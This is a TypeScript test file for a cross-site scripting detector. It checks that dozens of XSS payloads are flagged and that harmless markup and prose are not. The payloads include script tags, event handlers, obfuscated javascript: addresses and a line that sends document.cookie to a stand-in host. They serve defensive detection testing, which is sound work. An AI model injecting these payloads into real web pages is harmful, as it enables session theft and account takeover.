// Cross-site scripting: what is told in which context, and what is not; hostile values stay cheap.

import assert from 'node:assert/strict'
import { test } from 'node:test'

import * as fc from 'fast-check'

import type { Part } from '../../detector.ts'
import { tagsOf } from './html.ts'
import { xssDetector } from './index.ts'
import { runsScript } from './script.ts'

function confidenceOf(value: string): number {
  const part: Part = { place: 'query', name: 'q', raw: value, values: [value] }
  return xssDetector.detect(value, part)?.confidence ?? 0
}

void test('tags are read as browsers read them: any separator, missing quotes, missing ends', () => {
  const [tag] = tagsOf('x<SVG/onload=alert(1) a = "b c" d')
  assert.deepEqual(tag, {
    name: 'svg',
    attributes: [
      { name: 'onload', value: 'alert(1)', hasValue: true },
      { name: 'a', value: 'b c', hasValue: true },
      { name: 'd', value: '', hasValue: false },
    ],
    end: 33,
  })
  assert.deepEqual(
    [...tagsOf('<b title="<i onclick=x>">')].map(({ name }) => name),
    ['b', 'i'],
  )
})

void test('addresses that run a script are known through entities, escapes and white space', () => {
  for (const address of [
    'javascript:x',
    ' java\tscript:x',
    '&#x6a;avascript:x',
    '\\u006aavascript:x',
    'JaVaScRiPt&colon;x',
    'data:text/html,x',
    'vbscript:x',
  ])
    assert.equal(runsScript(address), true, address)
  for (const address of [
    'https://example.org/javascript:x',
    'javascript',
    'data:image/png;base64'.slice(0, 14),
    '/a:b',
  ])
    assert.equal(runsScript(address), false, address)
})

void test('scripts, handlers, loaders, addresses and breakouts are told', () => {
  const missed = [
    '<script>alert(1)</script>',
    '"><script src=//a.example/x.js></script>',
    '</script><script>x=1</script>',
    '<img src=x onerror=alert(1)>',
    '<x onanything=1',
    "<iframe src='javascript:alert(1)'>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<svg><animate attributeName=href values=javascript:alert(1) />',
    '<div style="width:expression(alert(1))">',
    '<style>@import "//a.example/x.css"</style>',
    '<meta http-equiv=refresh content="0;url=//a.example">',
    '" onmouseover="alert(document.cookie)" x="',
    "x' autofocus onfocus=alert(1) '",
    "';alert(1)//",
    '"-alert(1)-"',
    '${alert(1)}',
    'alert`1`',
    "{{constructor.constructor('alert(1)')()}}",
    'javascript:alert(1)',
    'document.location="//a.example/?"+document.cookie',
    String.raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
    'alert&lpar;1&rpar;',
    'document/* x */.cookie',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<scr\0ipt>alert(1)</scr\0ipt>',
  ].filter((value) => confidenceOf(value) < 60)
  assert.deepEqual(missed, [])
})

void test('markup that runs nothing, text about the web and ordinary values are not told', () => {
  const told = [
    '',
    'a < b and c > d',
    'I <3 you <3',
    '<b>bold</b> and <i>italic</i><br/>',
    '<a href="https://example.org/">link</a>',
    'Loads `<script>` tags and <style> elements lazily',
    'use window.confirm() or alert() in JavaScript: the difference',
    'set onclick = handler (see docs)',
    'function (x) of the class Function `f`',
    'https://example.org/?a=b#c',
    'data:image/png;base64,iVBORw0KGgo=',
    'a document.title of 10 pages',
    '{"key":"value","n":[1,2,3]}',
    'Prompt (noun): see confirm',
    '日本語のテキスト (検索): 「例」',
  ].filter((value) => confidenceOf(value) >= 60)
  assert.deepEqual(told, [])
})

void test('markup that runs nothing is told in a query, where no editor sends it, and not in a body', () => {
  const value = '<div class=x><h1>Log in again</h1></div>'
  const inPlace = (place: Part['place']): number =>
    xssDetector.detect(value, { place, name: 'q', raw: value, values: [value] })?.confidence ?? 0
  assert.ok(inPlace('query') >= 60)
  assert.ok(inPlace('body') < 60)
})

void test('what is told names the construct without the characters of the attacker', () => {
  const value = '<img/onerror\u001b[31m=x>'
  const found = xssDetector.detect(value, { place: 'query', name: '', raw: value, values: [value] })
  assert.equal(found?.why, 'The value puts the event handler onerror31m into a tag img.')
  assert.deepEqual([found?.class, found?.cwe], ['xss', 'CWE-79'])
})

const anyText = fc.array(fc.nat(0xffff), { maxLength: 12 }).map((codes) => String.fromCharCode(...codes))

void test('any text is judged without an error', () => {
  const piece = fc.oneof(
    anyText,
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '=',
      '<a ',
      '<script>',
      'on',
      ' onload=',
      '&#',
      '&#x6a;',
      '\\u',
      '\\x3c',
      'javascript:',
      '/',
      'alert(',
    ),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const confidence = confidenceOf(pieces.join(''))
      return confidence >= 0 && confidence <= 100
    }),
    { numRuns: 300 },
  )
})

void test('the time for eight thousand hostile characters is bounded, and nothing is quadratic', () => {
  for (const unit of [
    '<',
    '<a ',
    '<a b="',
    '<a b=\'<c d="',
    '<script>',
    '<style>',
    '&#',
    '\\u0061',
    'javascript:',
    '"onx=',
    'alert(',
    '(',
    '[]',
  ]) {
    const long = unit.repeat(8192).slice(0, 8192)
    confidenceOf(long)
    const start = process.cpuUsage()
    for (let round = 0; round < 3; round++) confidenceOf(long)
    assert.ok(process.cpuUsage(start).user < 120_000, unit)
  }
})

void test('what only looks like a script in a text or a manual is nothing', () => {
  for (const value of [
    'The max amount of milliseconds you can pass to `setTimeout()`',
    '<!DOCTYPE html> <html lang="en"> <head> <meta name="viewport" content="width=device-width" /> <meta charset="utf-8">',
    'a --> b and <!-- a comment --> in a page',
    '<a href="http://www.example.org/">text</a>',
  ])
    assert.ok(confidenceOf(value) < 60, value)
  const path: Part = { place: 'path', name: '', raw: '', values: [] }
  for (const value of ['/manual/document.cookie', '/wiki/eval(', '/wiki/setTimeout()'])
    assert.ok((xssDetector.detect(value, path)?.confidence ?? 0) < 60, value)
  assert.ok((xssDetector.detect('/a/eval(name)/', path)?.confidence ?? 0) >= 60)
})

void test('styles, hidden hosts, edges of comments and letters made of brackets are told', () => {
  for (const value of [
    '<// style=x:expression\\28write(1)\\29>',
    's" style="background:url(javascript:alert(1))',
    '<A HREF="http://1113982867/">XSS</A>',
    '<A HREF="htt\tp://6\t6.000146.0x7.147/">XSS</A>',
    '<meta http-equiv="refresh" content="0;url=//x.example">',
    '<meta charset="utf-7">',
    '<img src="http://x.example/pay.php?to=7">',
    '\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be',
    '-->',
    '--><b',
    '<!--',
    'xmlns:svg="http://www.w3.org/2000/svg">',
    '" type=image src=null onerror=x ',
    '(![]+[])[+!+[]]',
    'navigator.vibrate(500)',
    'document /*foo*/ .     cookie',
    '-moz-binding:url(http://x.example/x.xml#x)',
  ])
    assert.ok(confidenceOf(value) >= 60, value)
})

void test('nothing hides behind a row of empty scripts', () => {
  assert.equal(confidenceOf('<script>a '.repeat(20)), 0)
  assert.ok(confidenceOf('<script>a '.repeat(40)) >= 60)
  assert.ok(confidenceOf(`${'<script></script>'.repeat(30)}<img src=x onerror=alert(1)>`) >= 85)
  assert.ok(confidenceOf(`${'<b>'.repeat(400)}<img src=x onerror=alert(1)>`) >= 85)
})
